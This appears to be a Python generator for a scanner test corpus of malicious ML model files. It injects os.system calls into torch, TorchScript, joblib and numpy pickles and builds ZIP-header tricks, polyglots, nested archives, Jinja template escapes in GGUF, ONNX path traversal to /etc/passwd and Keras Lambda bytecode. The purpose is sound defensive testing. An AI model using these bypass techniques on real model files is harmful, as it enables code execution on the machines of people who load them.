"""Malicious files whose trick lives in the container around the pickle (or in
a non-pickle format): bypass classes 14-15 (legacy torch), 22-34, 36, 37, 39,
40. Torch archives are real torch.save output, re-written with the
hand-made zip writer so that one field at a time can be broken."""

import base64
import bz2
import gzip
import io
import lzma
import marshal
import os
import pickletools
import struct
import tarfile
import types
import zipfile
import zlib

import numpy as np
import torch

import containers as C
import gen_benign
import pk
from containers import Member
from gen_pickle_attacks import _Reduce
from pk import (EMPTY_DICT, EMPTY_TUPLE, MARK, NEWFALSE, POP, REDUCE, SETITEM, TUPLE,
                TUPLE1, bu, glob, int_)


def inject(pickle_bytes):
    """Put an os.system call (result popped) right after the PROTO opcode of a
    real pickle: the file still loads its real content afterwards, as an
    attacker's would."""
    assert pickle_bytes[:1] == b"\x80"
    return pickle_bytes[:2] + pk.system_call() + POP + pickle_bytes[2:]


def real_torch_zip(obj):
    """(prefix, [(name, data)]) of a real torch.save archive."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(buf) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    return items[0][0].split("/")[0], items


def members(items, pkl_override=None, **data_pkl_kw):
    """Members of a torch zip, with data.pkl replaced and/or given anomalies."""
    out = []
    for name, data in items:
        if name.endswith("/data.pkl"):
            out.append(Member(name, pkl_override if pkl_override is not None else data,
                              **data_pkl_kw))
        else:
            out.append(Member(name, data))
    return out


def split_streams(data, n):
    """The first n pickle streams of data and the rest."""
    bio = io.BytesIO(data)
    ends = []
    for _ in range(n):
        for op, _, pos in pickletools.genops(bio):
            if op.name == "STOP":
                break
        ends.append(bio.tell())
    starts = [0] + ends[:-1]
    return [data[s:e] for s, e in zip(starts, ends)], data[ends[-1]:]


def build(c):
    sd = {"w": torch.randn(8, 4), "b": torch.zeros(4)}
    prefix, items = real_torch_zip(sd)
    data_pkl = dict(items)[prefix + "/data.pkl"]
    evil_pkl = inject(data_pkl)

    def z(rel, cls, note, mems, expect="unsafe", **kw):
        # Every zip here carries an os.system payload; the scanner must reach it.
        C.write_zip(c.path(rel), mems, **kw)
        c.add(rel, expect, cls, note, callable="os.system")

    z("zip/c22_torch_zip_named/tokenizer.model", 22, "torch zip with payload named tokenizer.model",
      members(items, evil_pkl))
    z("zip/c22_txt_member.pt", 22, "protocol-0 payload in a .txt member of a clean torch zip",
      members(items) + [Member(prefix + "/notes.txt",
                               b"cos\nsystem\n(S'" + pk.TOUCH.encode() + b"'\ntR.")])
    # Debian's torch 1.13 miniz refuses these flags ("unsupported encryption");
    # scanner-notes 6.1 records newer torch reading through them. Either way
    # the payload must be found, never skipped as unreadable.
    z("zip/c24_flag_encrypted.pt", 24, "data.pkl with payload, flag bit 0x1 (encrypted) set",
      members(items, evil_pkl, flags=0x1))
    z("zip/c24_flag_0x20_0x40.pt", 24, "data.pkl with payload, flag bits 0x20|0x40",
      members(items, evil_pkl, flags=0x60))
    z("zip/c25_name_mismatch.pt", 25, "local header names data.pkl as data.bin",
      members(items, evil_pkl, local_name=prefix + "/data.bin"))
    z("zip/c26_bad_crc.pt", 26, "data.pkl with payload and a wrong CRC",
      members(items, evil_pkl, crc=0xDEADBEEF))
    z("zip/c27_duplicate_name.pt", 27, "two archive/data.pkl entries, the second with payload",
      members(items) + [Member(prefix + "/data.pkl", evil_pkl)])
    z("zip/c27_duplicate_name_first.pt", 27, "two archive/data.pkl entries, the first with payload",
      [Member(prefix + "/data.pkl", evil_pkl)] + members(items))
    z("zip/c27_case_collision.pt", 27, "clean data.pkl plus DATA.PKL with payload (miniz folds case)",
      members(items) + [Member(prefix + "/DATA.PKL", evil_pkl)])
    z("zip/c28_second_prefix.pt", 28, "clean archive/data.pkl plus other/data.pkl with payload",
      members(items) + [Member("other/data.pkl", evil_pkl)])
    z("zip/c28_extra_member.pt", 28, "extra pickle member archive/extra.pkl",
      members(items) + [Member(prefix + "/extra.pkl", pk.payload_pickle())])
    z("zip/c28_deflated_payload.pt", 28, "payload data.pkl deflated (method 8)",
      members(items, evil_pkl, deflate=True))

    # 23: polyglot, a payload pickle first and a clean torch zip after it.
    zbuf = io.BytesIO()
    torch.save(sd, zbuf)
    c.add("zip/c23_polyglot.pt", "unsafe", 23,
          "payload pickle at offset 0, clean torch zip after it (torch.load runs the pickle)",
          data=pk.payload_pickle() + zbuf.getvalue(), callable="os.system")

    # 33: nested zip, tar, 7z and gzip wrappers with members named innocuously.
    tmp = c.path("zip/_inner.tmp")
    C.write_zip(tmp, members(items, evil_pkl))
    with open(tmp, "rb") as f:
        evil_zip = f.read()
    os.remove(tmp)
    z("wrap/c33_nested_zip.zip", 33, "zip holding a torch zip named blob.dat",
      [Member("weights/blob.dat", evil_zip), Member("README", b"hi")])
    c.add("wrap/c33_tar_member.tar", "unsafe", 33, "tar holding a payload pickle named model.weights",
          data=_tar_bytes([("model.weights", pk.payload_pickle()), ("config.json", b"{}")]),
          callable="os.system")
    c.add("wrap/c33_tar_gz.tgz", "unsafe", 33, "gzip'd tar holding a torch zip named data",
          data=gzip.compress(_tar_bytes([("data", evil_zip)]), mtime=0), callable="os.system")
    c.add("wrap/c33_single_gzip.safetensors.gz", "unsafe", 33, "gzip of a payload pickle",
          data=gzip.compress(pk.payload_pickle(), mtime=0), callable="os.system")
    C.write_7z_stored(c.path("wrap/c33_7z.7z"), "model.data", pk.payload_pickle())
    c.add("wrap/c33_7z.7z", ["unsafe", "unknown"], 33,
          "7z (Copy coder) holding a payload pickle named model.data; unknown without a 7z reader")

    _legacy(c, sd)
    _legacy_tar(c)
    _torchscript(c)
    _joblib(c)
    _npy(c)
    _gguf(c)
    _safetensors(c)
    _tensor_bounds(c)
    _keras(c, evil_zip)
    _onnx(c)


def _onnx(c):
    """Not a numbered bypass class: the ONNX load-time hazards of
    scanner-notes 6.7 (class "extra")."""
    c.add("onnx/external_traversal.onnx", "unsafe", "extra",
          "initializer external_data location ../../etc/passwd (CVE-2022-25882)",
          data=C.onnx_model(external_location="../../etc/passwd"))
    c.add("onnx/external_absolute.onnx", "unsafe", "extra",
          "initializer external_data location /etc/passwd (CVE-2024-27318)",
          data=C.onnx_model(external_location="/etc/passwd"))
    c.add("onnx/custom_domain.onnx", "unknown", "extra",
          "custom operator domain: operators come from a user-loaded library",
          data=C.onnx_model(custom_domain="com.example.ops"))


def _tar_bytes(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _legacy(c, sd):
    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    streams, rest = split_streams(buf.getvalue(), 5)
    s = list(streams)
    s[3] = inject(s[3])
    c.add("legacy/c14_payload_in_stream4.bin", "unsafe", 14,
          "legacy torch file, payload injected into pickle #4 (main object)",
          data=b"".join(s) + rest, callable="os.system")
    s = list(streams)
    s[2] = pk.whole(glob("builtins", "eval") +
                    bu("__import__('os').system('%s') or {}" % pk.TOUCH) + TUPLE1 + REDUCE)
    c.add("legacy/c14_payload_in_sysinfo.pt", "unsafe", 14,
          "legacy torch file, sys_info pickle (#3) replaced by eval",
          data=b"".join(s) + rest, callable="builtins.eval")
    s = list(streams)
    s[0] = pk.whole(glob("builtins", "eval") +
                    bu("__import__('os').system('%s') or 0x1950a86a20f9469cfc6c" % pk.TOUCH) +
                    TUPLE1 + REDUCE)
    c.add("legacy/c15_magic_by_code.pt", "unsafe", 15,
          "legacy magic number produced by eval in pickle #1",
          data=b"".join(s) + rest, callable="builtins.eval")


def _legacy_tar(c):
    import pickle
    p2 = lambda o: pickle.dumps(o, protocol=2)  # noqa: E731
    # Keys are the saving process's object ids (ints); the main pickle refers
    # to tensors by BINPERSID of that int.
    storages = (p2(1) + p2((1, "cpu", torch.FloatStorage)) + struct.pack("<q", 4) +
                bytes(16) + p2([]))
    tensors = (p2(1) + p2((2, 1, torch.FloatTensor)) + struct.pack("<ii", 1, 0) +
               struct.pack("<qqq", 4, 1, 0))
    main = pk.whole(EMPTY_DICT + bu("w") + int_(2) + b"Q" + SETITEM)
    sysinfo = p2({"protocol_version": 1001, "little_endian": True,
                  "type_sizes": {"short": 2, "int": 4, "long": 4}})
    files = [("sys_info", sysinfo), ("storages", storages), ("tensors", tensors)]
    c.add("legacy/tar_clean.pt", ["safe", "unknown"], "benign",
          "clean legacy tar checkpoint (torch <= 0.1.10 layout)",
          data=_tar_bytes(files + [("pickle", main)]))
    c.add("legacy/c29_tar_payload.pt", "unsafe", 29, "legacy tar checkpoint, payload in 'pickle'",
          data=_tar_bytes(files + [("pickle", inject(main))]), callable="os.system")
    c.add("legacy/c29_tar_traversal.pt", "unsafe", 29,
          "legacy tar with a ../ member (extracted to disk by loaders)",
          data=_tar_bytes(files + [("pickle", main), ("../../tmp/evil", b"x")]))


def _torchscript(c):
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), buf)
    with zipfile.ZipFile(buf) as zf:
        items = [(i.filename, zf.read(i.filename)) for i in zf.infolist()]
    mems = []
    for name, data in items:
        if name.endswith("/constants.pkl"):
            data = inject(data)
        mems.append(Member(name, data))
    C.write_zip(c.path("torchscript/c30_constants_payload.pt"), mems)
    c.add("torchscript/c30_constants_payload.pt", "unsafe", 30,
          "real TorchScript archive with os.system injected into constants.pkl",
          callable="os.system")


def _joblib(c):
    import joblib
    rel = "joblib/c31_raw_bytes_hide.joblib"
    joblib.dump({"arr": np.full(4096, 0x2E, np.uint8), "evil": _Reduce()}, c.path(rel))
    c.add(rel, "unsafe", 31, "array of '.' (STOP) bytes, then a payload", profile="joblib",
          callable="system")
    rel = "joblib/c31_object_array.joblib"
    joblib.dump({"w": np.arange(10.0), "o": np.array([_Reduce(), 1], dtype=object)}, c.path(rel))
    c.add(rel, "unsafe", 31, "object array: nested pickle with payload after raw bytes",
          profile="joblib", callable="system")
    with open(c.path_of("joblib/c31_raw_bytes_hide.joblib"), "rb") as f:
        raw = f.read()
    for name, comp in (("zlib", zlib.compress), ("gzip", lambda b: gzip.compress(b, mtime=0)),
                       ("bz2", bz2.compress), ("xz", lzma.compress),
                       ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
                       ("lz4", C.lz4_frame_stored)):
        rel = "joblib/c32_%s.joblib" % name
        c.add(rel, "unsafe", 32, "%s-compressed joblib with payload" % name, profile="joblib",
              data=comp(raw), callable="system")


def _npy(c):
    np.save(c.path("numpy/c36_obj/weights.npy"), np.array([_Reduce(), 2.0], dtype=object),
            allow_pickle=True)
    c.add("numpy/c36_obj/weights.npy", "unsafe", 36, "object-dtype .npy named weights.npy",
          callable="system")
    arr = np.zeros(1, dtype=[("x", "<f4"), ("o", "O")])
    arr[0]["o"] = _Reduce()
    np.save(c.path("numpy/c36_structured_obj.npy"), arr, allow_pickle=True)
    c.add("numpy/c36_structured_obj.npy", "unsafe", 36, "structured dtype with an 'O' field",
          callable="system")
    np.savez(c.path("numpy/c36_npz_obj.npz"), ok=np.arange(3),
             bad=np.array([_Reduce()], dtype=object))
    c.add("numpy/c36_npz_obj.npz", "unsafe", 36, ".npz with an object-array member",
          callable="system")


def _gguf(c):
    base = [("general.architecture", C.GGUF_STRING, "llama"),
            ("tokenizer.chat_template", C.GGUF_STRING, gen_benign.CHATML)]
    evil = {
        "named_globals": ("tokenizer.chat_template.tool_use",
                          "{{ self.__init__.__globals__.__builtins__.__import__('os')"
                          ".popen('%s').read() }}" % pk.TOUCH),
        "default_mro": ("tokenizer.chat_template",
                        "{% for m in messages %}{{ ''.__class__.__mro__[1].__subclasses__() }}"
                        "{% endfor %}"),
        "attr_filter": ("tokenizer.chat_template.rag", "{{ cycler|attr('__init__') }}"),
        "escaped": ("tokenizer.chat_template", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
        "concat": ("tokenizer.chat_template",
                   "{% set a = '__cla' ~ 'ss__' %}{{ ''[a] }}"),
    }
    for tag, (key, tmpl) in evil.items():
        kvs = [kv for kv in base if kv[0] != key] + [(key, C.GGUF_STRING, tmpl)]
        c.add("gguf/c34_%s.gguf" % tag, "unsafe", 34, "chat template: %s (%s)" % (tag, key),
              data=C.gguf_bytes(kvs))
    # An 80 MiB template, written sparse: over the 64 MiB string cap.
    p = c.path("gguf/c34_oversize_template.gguf")
    key = b"tokenizer.chat_template"
    size = 80 << 20
    with open(p, "wb") as f:
        f.write(b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key +
                struct.pack("<IQ", C.GGUF_STRING, size))
        f.truncate(f.tell() + size)
    c.add("gguf/c34_oversize_template.gguf", "unknown", 34, "80 MiB chat template (sparse file)")


def _safetensors(c):
    raw = np.arange(4, dtype=np.float32).tobytes()
    good = '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
    cases = {
        # serde keeps the last "a" (I32), first-wins parsers the F32 one; both
        # cover the buffer, so the Rust crate accepts the file.
        "duplicate_key": (good + ',"a":{"dtype":"I32","shape":[4],"data_offsets":[0,16]}}', b" ",
                          b""),
        "duplicate_metadata": ('{"__metadata__":{"a":"1"},"__metadata__":{"a":"2"},' +
                               good[1:] + "}", b" ", b""),
        "leading_whitespace": (" " + good + "}", b" ", b""),
        "nul_padding": (good + "}", b"\x00", b""),
        "trailing_bytes": (good + "}", b" ", b"EXTRA"),
        "overlap": ('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                    '"b":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}', b" ", b""),
        "size_mismatch": ('{"a":{"dtype":"F32","shape":[5],"data_offsets":[0,16]}}', b" ", b""),
    }
    for tag, (hdr, pad, trailing) in cases.items():
        c.add("safetensors/c37_%s.safetensors" % tag, ["unknown", "unsafe"], 37,
              "safetensors differential: " + tag,
              data=C.safetensors_bytes([("a", "F32", (4,), raw)], header_override=hdr, pad=pad,
                                       trailing=trailing))
    c.add("safetensors/c37_header_past_eof.safetensors", ["unknown", "unsafe"], 37,
          "declared header length beyond the file",
          data=struct.pack("<Q", 1 << 20) + b'{"a":1}')


def _tensor_pkl(size, stride, offset=0, numel=4, extra=b""):
    """data.pkl of {'w': tensor} written the way torch 1.13 writes it."""
    body = (EMPTY_DICT + bu("w") + glob("torch._utils", "_rebuild_tensor_v2") + MARK + MARK +
            bu("storage") + glob("torch", "FloatStorage") + bu("0") + bu("cpu") + int_(numel) +
            TUPLE + b"Q" + int_(offset) + MARK + b"".join(int_(s) for s in size) + TUPLE + MARK +
            b"".join(int_(s) for s in stride) + TUPLE + NEWFALSE +
            glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE + extra +
            SETITEM)
    return pk.whole(body)


def _torch_zip_with(c, rel, pkl, expect, cls, note, numel=4):
    mems = [Member("archive/data.pkl", pkl), Member("archive/data/0", bytes(4 * numel)),
            Member("archive/version", b"3\n")]
    C.write_zip(c.path(rel), mems)
    c.add(rel, expect, cls, note)


def _tensor_bounds(c):
    _torch_zip_with(c, "bounds/control_inbounds.pt", _tensor_pkl((2, 2), (2, 1)), "safe",
                    "benign", "hand-written torch zip, 2x2 view of a 4-element storage (control)")
    _torch_zip_with(c, "bounds/c39_view_past_storage.pt", _tensor_pkl((1000,), (1,)), "unsafe", 39,
                    "tensor of 1000 elements over a 4-element storage")
    _torch_zip_with(c, "bounds/c39_offset_past_storage.pt", _tensor_pkl((2,), (1,), offset=3),
                    "unsafe", 39, "storage offset 3 + 2 elements over 4")
    _torch_zip_with(c, "bounds/c39_setitem_on_tensor.pt",
                    _tensor_pkl((4,), (1,), extra=int_(0) + int_(7) + SETITEM), "unsafe", 39,
                    "SETITEM on a rebuilt tensor (CVE-2026-24747 class)")
    mems = [Member("archive/data.pkl", _tensor_pkl((4,), (1,))), Member("archive/version", b"3\n")]
    C.write_zip(c.path("bounds/c39_missing_record.pt"), mems)
    c.add("bounds/c39_missing_record.pt", "unknown", 39, "persistent id names a missing data/0")
    mems = [Member("archive/data.pkl", _tensor_pkl((4,), (1,))),
            Member("archive/data/0", bytes(8)), Member("archive/version", b"3\n")]
    C.write_zip(c.path("bounds/c39_short_record.pt"), mems)
    c.add("bounds/c39_short_record.pt", ["unsafe", "unknown"], 39,
          "data/0 holds 8 bytes for a 4-element float32 storage")


def _lambda_code():
    code = compile("lambda x: open('%s', 'w')" % pk.MARKER, "<corpus>", "eval")
    lam = [k for k in code.co_consts if isinstance(k, types.CodeType)][0]
    return base64.b64encode(marshal.dumps(lam)).decode()


def _keras(c, evil_zip):
    def layer(module, cls, config, registered=None):
        return {"module": module, "class_name": cls, "config": config,
                "registered_name": registered}

    def seq(*layers):
        return layer("keras", "Sequential", {"name": "s", "layers": list(layers)})

    code = _lambda_code()
    cases = {
        "lambda": seq(layer("keras.layers", "Lambda", {
            "name": "l", "function": {"class_name": "__lambda__",
                                      "config": {"code": code, "defaults": None, "closure": None}}})),
        "foreign_module": seq(layer("subprocess", "Popen", {"args": pk.TOUCH}, "Popen")),
        "torch_module_wrapper": seq(layer("keras.layers", "TorchModuleWrapper", {
            "name": "t", "module": base64.b64encode(evil_zip).decode()})),
        "get_file": seq(layer("keras.utils", "get_file", {"origin": "http://127.0.0.1/x"})),
        "unsafe_toggle": seq(layer("keras.config", "enable_unsafe_deserialization", {})),
    }
    # The wrapper's base64 holds a torch zip with an os.system payload, which
    # scanner-notes 6.7 says to scan as torch.
    named = {"foreign_module": "subprocess.Popen", "torch_module_wrapper": "os.system"}
    for tag, cfg in cases.items():
        c.add("keras/c40_%s.keras" % tag, "unsafe", 40, "Keras config trick: " + tag,
              data=gen_benign.keras_zip(cfg), callable=named.get(tag, ""))
    h5cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None],
                                            "function_type": "lambda", "output_shape": None}}]}}
    gen_benign.write_h5_model(c.path("keras/c40_lambda.h5"), h5cfg)
    c.add("keras/c40_lambda.h5", "unsafe", 40, "legacy .h5 model_config with a bytecode Lambda")
    gen_benign.write_h5_model(c.path("keras/c40_lambda_vlen.h5"), h5cfg, vlen=True)
    c.add("keras/c40_lambda_vlen.h5", ["unsafe", "unknown"], 40,
          "same, model_config stored as a variable-length string (global heap)")
